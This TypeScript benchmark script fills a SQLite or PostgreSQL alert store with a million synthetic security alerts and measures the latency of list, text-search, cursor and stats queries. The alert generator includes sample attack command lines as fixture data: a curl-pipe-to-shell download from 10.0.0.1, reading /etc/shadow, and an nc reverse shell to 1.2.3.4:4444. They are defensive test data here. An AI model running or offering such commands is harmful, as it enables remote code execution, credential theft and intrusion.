/**
 * Store queries: fills a store with a realistic 1M-alert week through
 * write() (batches, as the correlator writes them), then measures p50/p99 of
 * the listings the API serves (filters, text search, cursor continuation) and
 * of stats over 24 h. Goal: p99 < 100 ms for filtered list queries.
 *
 *   node --import tsx bench/store-queries.ts            SQLite, 1M alerts, print
 *   node --import tsx bench/store-queries.ts --write    also update bench/README.md
 *   ... --postgres                                      PostgreSQL too (TIERCEL_TEST_POSTGRES_URL)
 *   ... --reuse                                         keep and reuse the filled SQLite file
 *
 * Environment: BENCH_ALERTS (1000000), BENCH_RUNS (60 per query), BENCH_DB
 * (bench/out/store-queries.db).
 */
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { cpus } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import pg from 'pg';
import { PRIORITIES, type Priority } from '../src/engine/priority.js';
import type { Incident, IncidentLink, StoredAlert } from '../src/incidents/model.js';
import { PostgresStore } from '../src/store/postgres.js';
import { SqliteStore } from '../src/store/sqlite.js';
import type { AlertQuery, IncidentQuery, Store } from '../src/store/types.js';

const here = dirname(fileURLToPath(import.meta.url));
const args = process.argv.slice(2);
const TOTAL = Number(process.env.BENCH_ALERTS ?? 1_000_000);
const RUNS = Number(process.env.BENCH_RUNS ?? 60);
const DB = process.env.BENCH_DB ?? join(here, 'out', 'store-queries.db');
const BATCH = 1000;
const NS_PER_MS = 1_000_000n;
const DAY_MS = 86_400_000;

// ---- a deterministic, realistic week of alerts ---------------------------------------------

/** mulberry32: the same data on every run. */
function rng(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rand = rng(42);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
/** Skewed pick: a few values get most of the traffic, as in a real cluster. */
const skewed = <T>(xs: readonly T[]): T => xs[Math.floor(xs.length * rand() ** 2)]!;

const RULES = Array.from({ length: 50 }, (_, i) => `Rule ${String(i).padStart(2, '0')} ${pick(['Terminal shell in container', 'Write below etc', 'Read sensitive file', 'Outbound connection', 'Attach/Exec Pod', 'Create Privileged Pod'])}`);
const NAMESPACES = Array.from({ length: 30 }, (_, i) => (i < 3 ? ['prod', 'kube-system', 'staging'][i]! : `team-${i}`));
const PODS = Array.from({ length: 500 }, (_, i) => ({ ns: NAMESPACES[i % 30]!, name: `svc${i % 97}-${(i * 7919).toString(36).slice(-5)}-${i}` }));
const USERS = Array.from({ length: 20 }, (_, i) => (i < 5 ? `system:serviceaccount:ci:builder-${i}` : `user${i}@example.com`));
const NODES = Array.from({ length: 20 }, (_, i) => `node-${i}.cluster.local`);
const TAGS = ['container', 'shell', 'mitre_execution', 'mitre_persistence', 'filesystem', 'network', 'k8s', 'mitre_discovery', 'process', 'T1059'];
const PRIORITY_MIX: Priority[] = ['Notice', 'Notice', 'Notice', 'Warning', 'Warning', 'Warning', 'Informational', 'Informational', 'Error', 'Critical', 'Debug'];

function makeAlert(i: number, time: bigint, incidentId: string | undefined): StoredAlert {
  const pod = skewed(PODS);
  const rule = skewed(RULES);
  const user = skewed(USERS);
  const source = rand() < 0.8 ? 'syscall' : 'k8s_audit';
  const cmd = pick(['bash -i', 'sh -c curl -s http://10.0.0.1/x | sh', 'cat /etc/shadow', 'python3 -c import pty', 'nc -e /bin/sh 1.2.3.4 4444']);
  const priority = rand() < 0.002 ? pick(PRIORITIES) : pick(PRIORITY_MIX);
  return {
    id: `bench-${i}`,
    kind: 'alert',
    time,
    rule,
    priority,
    source,
    tags: [pick(TAGS), pick(TAGS), pick(TAGS)].filter((t, j, a) => a.indexOf(t) === j),
    output: `${priority} ${rule} (user=${user} command=${cmd} pid=${1000 + (i % 30000)} container=${pod.name} k8s.ns=${pod.ns} k8s.pod=${pod.name} image=registry.example.com/${pod.ns}/app:1.${i % 40})`,
    outputFields: {
      'proc.cmdline': cmd, 'proc.pid': 1000 + (i % 30000), 'user.name': 'root', 'container.id': `c${i % 5000}`,
      'k8s.ns.name': pod.ns, 'k8s.pod.name': pod.name, 'evt.time': time.toString(), 'fd.name': null,
    },
    hostname: NODES[PODS.indexOf(pod) % NODES.length]!,
    correlation: { pod_uid: `uid-${pod.name}`, container: `c${i % 5000}` },
    namespace: pod.ns,
    pod: pod.name,
    podUid: `uid-${pod.name}`,
    containerId: `c${i % 5000}`,
    user,
    dedupKey: `${rule}|c${i % 5000}`,
    ...(incidentId ? { incidentId } : {}),
    receivedAt: Number(time / NS_PER_MS),
  };
}

interface FillResult { readonly seconds: number; readonly alertsPerSecond: number; readonly end: bigint }

/** Writes TOTAL alerts in time order over 7 days ending now; one in ten joins one of ~10k incidents. */
async function fill(store: Store, label: string): Promise<FillResult> {
  const endMs = Date.now();
  const startMs = endMs - 7 * DAY_MS;
  const step = (7 * DAY_MS) / TOTAL;
  const t0 = performance.now();
  for (let b = 0; b < TOTAL; b += BATCH) {
    const alerts: StoredAlert[] = [];
    const incidents = new Map<string, Incident>();
    const links: IncidentLink[] = [];
    for (let i = b; i < Math.min(TOTAL, b + BATCH); i++) {
      const time = BigInt(Math.floor((startMs + i * step) * 1000)) * 1000n + BigInt(i % 1000);
      const incId = rand() < 0.1 ? `inc-${Math.floor(i / 100)}` : undefined;
      const a = makeAlert(i, time, incId);
      alerts.push(a);
      if (incId) {
        const prev = incidents.get(incId);
        incidents.set(incId, {
          id: incId, title: `${a.user} ran ${a.rule} in ${a.namespace}/${a.pod}`, severity: a.priority, status: 'open',
          actor: { kind: 'user', name: a.user!, confidence: 'probable' },
          target: { namespace: a.namespace!, pod: a.pod!, node: a.hostname },
          firstSeen: prev?.firstSeen ?? time, lastSeen: time, alertCount: (prev?.alertCount ?? 0) + 1,
          rules: [...new Set([...(prev?.rules ?? []), a.rule])], tactics: ['execution'], keys: [{ kind: 'pod_uid', value: a.podUid! }],
          createdAt: Number(time / NS_PER_MS), updatedAt: Number(time / NS_PER_MS),
        });
        links.push({ incidentId: incId, alertId: a.id, key: prev ? 'pod_uid' : 'first', confidence: 'exact' });
      }
    }
    await store.write({ alerts, incidents: [...incidents.values()], links });
    if ((b / BATCH) % 100 === 0) process.stderr.write(`\r${label}: ${b.toLocaleString('en-US')} / ${TOTAL.toLocaleString('en-US')}`);
  }
  const seconds = (performance.now() - t0) / 1000;
  process.stderr.write('\n');
  return { seconds, alertsPerSecond: TOTAL / seconds, end: BigInt(endMs) * NS_PER_MS };
}

// ---- the queries -------------------------------------------------------------------------------

interface Measured { readonly name: string; readonly p50: number; readonly p99: number; readonly max: number; readonly rows: number }

function percentile(sorted: number[], p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)]!;
}

async function measure(name: string, run: () => Promise<number>): Promise<Measured> {
  await run(); // warm the statement cache and the pages it touches
  const times: number[] = [];
  let rows = 0;
  for (let i = 0; i < RUNS; i++) {
    const t = performance.now();
    rows += await run();
    times.push(performance.now() - t);
  }
  times.sort((a, b) => a - b);
  return { name, p50: percentile(times, 50), p99: percentile(times, 99), max: times[times.length - 1]!, rows: rows / RUNS };
}

async function queries(store: Store, end: bigint): Promise<Measured[]> {
  const day = BigInt(DAY_MS) * NS_PER_MS;
  const hour = day / 24n;
  const list = async (q: AlertQuery): Promise<number> => (await store.listAlerts(q)).items.length;
  /** The second page: measures only the continuation call. */
  const second = (q: () => AlertQuery) => async (): Promise<number> => {
    const query = q();
    const first = await store.listAlerts(query);
    if (!first.next) return 0;
    const t = performance.now();
    const n = (await store.listAlerts({ ...query, cursor: first.next })).items.length;
    extra.push(performance.now() - t);
    return n;
  };
  const extra: number[] = [];
  const incidents = async (q: IncidentQuery): Promise<number> => (await store.listIncidents(q)).items.length;
  const someTime = (): bigint => end - BigInt(Math.floor(rand() * 6 * DAY_MS)) * NS_PER_MS;
  const out: Measured[] = [];
  const add = async (name: string, run: () => Promise<number>): Promise<void> => {
    out.push(await measure(name, run));
  };
  await add('latest 100 (no filter)', () => list({}));
  await add('namespace', () => list({ namespace: pick(NAMESPACES) }));
  await add('pod', () => list({ pod: pick(PODS).name }));
  await add('user', () => list({ user: pick(USERS) }));
  await add('rule', () => list({ rule: pick(RULES) }));
  await add('minPriority Critical', () => list({ minPriority: 'Critical' }));
  await add('minPriority Emergency (rare)', () => list({ minPriority: 'Emergency' }));
  await add('time range 1 h, 6 days ago', () => { const t = someTime(); return list({ from: t - hour, to: t }); });
  await add('namespace + rule', () => list({ namespace: pick(NAMESPACES), rule: pick(RULES) }));
  await add('pod + minPriority Warning + 24 h', () => list({ pod: pick(PODS).name, minPriority: 'Warning', from: end - day, to: end }));
  await add('user + namespace + 24 h', () => list({ user: pick(USERS), namespace: pick(NAMESPACES), from: end - day, to: end }));
  await add('incident id', () => list({ incidentId: `inc-${Math.floor(rand() * (TOTAL / 100))}`, kind: 'any' }));
  await add('text: common word', () => list({ text: pick(['curl', 'shadow', 'pty']) }));
  await add('text: one pod name', () => list({ text: pick(PODS).name }));
  await add('text: one pod name, 24 h', () => list({ text: pick(PODS).name, from: end - day, to: end }));
  await add('text: no match, 24 h', () => list({ text: `no-such-thing-${Math.floor(rand() * 1e6)}`, from: end - day, to: end }));
  await add('text + namespace', () => list({ text: 'curl', namespace: pick(NAMESPACES) }));
  extra.length = 0;
  await measure('page 2 of namespace (cursor)', second(() => ({ namespace: pick(NAMESPACES) })));
  out.push(fromSamples('page 2 of namespace (cursor continuation)', extra.splice(0)));
  await measure('page 2 of rule + 24 h (cursor)', second(() => ({ rule: pick(RULES), from: end - day, to: end })));
  out.push(fromSamples('page 2 of rule + 24 h (cursor continuation)', extra.splice(0)));
  await add('page 20 of all (walked by cursor, per page)', async () => {
    let cursor: string | undefined;
    let n = 0;
    for (let p = 0; p < 20; p++) {
      const page = await store.listAlerts({ limit: 100, ...(cursor ? { cursor } : {}) });
      n += page.items.length;
      cursor = page.next;
    }
    return n / 20;
  });
  out[out.length - 1] = { ...out[out.length - 1]!, name: 'page 1→20 of all (20 calls, total)' };
  await add('incidents: latest', () => incidents({}));
  await add('incidents: namespace + open', () => incidents({ namespace: pick(NAMESPACES), status: 'open' }));
  await add('incidents: rule', () => incidents({ rule: pick(RULES) }));
  await add('incidents: text', () => incidents({ text: pick(PODS).name }));
  await add('stats 24 h, 1 h buckets', async () => (await store.stats({ from: end - day, to: end, bucketMs: 3_600_000 })).total);
  await add('stats 24 h, 1 min buckets', async () => (await store.stats({ from: end - day, to: end, bucketMs: 60_000 })).total);
  // As the API asks for a relative range (`since=24h`): from on a bucket boundary, so the series comes from the rollup too.
  await add('stats 24 h, 1 h buckets, from on the hour (API)', async () =>
    (await store.stats({ from: end - day - ((end - day) % hour), to: end, bucketMs: 3_600_000 })).total);
  return out;
}

function fromSamples(name: string, samples: number[]): Measured {
  const sorted = [...samples].sort((a, b) => a - b);
  return { name, p50: percentile(sorted, 50), p99: percentile(sorted, 99), max: sorted[sorted.length - 1] ?? 0, rows: 100 };
}

// ---- running and reporting ---------------------------------------------------------------------

interface EngineRun { readonly engine: string; readonly fill?: FillResult; readonly results: Measured[]; readonly note: string }

async function runSqlite(): Promise<EngineRun> {
  const reuse = args.includes('--reuse') && existsSync(DB);
  if (!reuse) for (const f of [DB, `${DB}-wal`, `${DB}-shm`]) rmSync(f, { force: true });
  mkdirSync(dirname(DB), { recursive: true });
  let store = SqliteStore.open(DB);
  let filled: FillResult | undefined;
  if (!reuse || (await store.countAlerts()) < TOTAL) filled = await fill(store, 'sqlite');
  // A restart, as in production: the planner statistics are gathered on open.
  await store.close();
  store = SqliteStore.open(DB);
  const end = filled?.end ?? BigInt(Date.now()) * NS_PER_MS;
  const results = await queries(store, end);
  await store.close();
  if (!args.includes('--reuse')) for (const f of [DB, `${DB}-wal`, `${DB}-shm`]) rmSync(f, { force: true });
  return { engine: 'SQLite', ...(filled ? { fill: filled } : {}), results, note: 'file on local disk, WAL, synchronous=NORMAL' };
}

async function runPostgres(): Promise<EngineRun | undefined> {
  const base = process.env.TIERCEL_TEST_POSTGRES_URL;
  if (!base) {
    console.error('postgres: TIERCEL_TEST_POSTGRES_URL is not set (eval "$(scripts/test-postgres.sh)"): skipped');
    return undefined;
  }
  const name = `tiercel_bench_${process.pid}`;
  const admin = new pg.Client({ connectionString: base });
  await admin.connect();
  await admin.query(`CREATE DATABASE ${name}`);
  const url = new URL(base);
  url.pathname = `/${name}`;
  try {
    const store = await PostgresStore.open(url.toString());
    const filled = await fill(store, 'postgres');
    const c = new pg.Client({ connectionString: url.toString() });
    await c.connect();
    await c.query('VACUUM ANALYZE');
    await c.end();
    const results = await queries(store, filled.end);
    await store.close();
    return { engine: 'PostgreSQL', fill: filled, results, note: `loopback server, default settings, pg_trgm ${store.trigramSearch ? 'on' : 'off'}` };
  } finally {
    await admin.query(`DROP DATABASE IF EXISTS ${name} WITH (FORCE)`);
    await admin.end();
  }
}

function table(run: EngineRun): string {
  const ms = (x: number): string => (x < 10 ? x.toFixed(2) : x.toFixed(1));
  const lines = [
    `### ${run.engine} (${run.note})`,
    '',
    run.fill
      ? `Filled with ${TOTAL.toLocaleString('en-US')} alerts in ${run.fill.seconds.toFixed(1)} s through write() in batches of ${BATCH} ` +
        `(with ~${(TOTAL / 100).toLocaleString('en-US')} incidents and their links): **${Math.round(run.fill.alertsPerSecond).toLocaleString('en-US')} alerts/s**.`
      : 'Reused a filled store.',
    '',
    '| query (limit 100, newest first) | p50 ms | p99 ms | max ms | rows |',
    '|---|---:|---:|---:|---:|',
    ...run.results.map((r) => `| ${r.name} | ${ms(r.p50)} | ${ms(r.p99)} | ${ms(r.max)} | ${Math.round(r.rows)} |`),
    '',
  ];
  const lists = run.results.filter((r) => !r.name.startsWith('stats') && !r.name.startsWith('page 1→20'));
  const worst = lists.reduce((a, b) => (b.p99 > a.p99 ? b : a));
  lines.push(`Goal p99 < 100 ms for filtered list queries: ${worst.p99 < 100 ? 'met' : 'NOT met'} (worst: ${worst.name}, ${ms(worst.p99)} ms).`, '');
  return lines.join('\n');
}

const runs: EngineRun[] = [await runSqlite()];
if (args.includes('--postgres')) {
  const p = await runPostgres();
  if (p) runs.push(p);
}
const report = [
  `${TOTAL.toLocaleString('en-US')} alerts over 7 days (50 rules, 30 namespaces, 500 pods, 20 users, 20 nodes, skewed), ` +
    `${RUNS} runs per query with varying values; Node ${process.version}, ${cpus().length} CPUs shared with other jobs, ${new Date().toISOString().slice(0, 10)}.`,
  '',
  ...runs.map(table),
].join('\n');
console.log(report);

if (args.includes('--write')) {
  const readme = join(here, 'README.md');
  const text = readFileSync(readme, 'utf8');
  const begin = '<!-- store-queries:begin -->';
  const endMarker = '<!-- store-queries:end -->';
  const a = text.indexOf(begin);
  const b = text.indexOf(endMarker);
  if (a < 0 || b < a) throw new Error(`bench/README.md has no ${begin} … ${endMarker} section`);
  writeFileSync(readme, `${text.slice(0, a + begin.length)}\n${report}\n${text.slice(b)}`);
  console.error('bench/README.md updated');
}
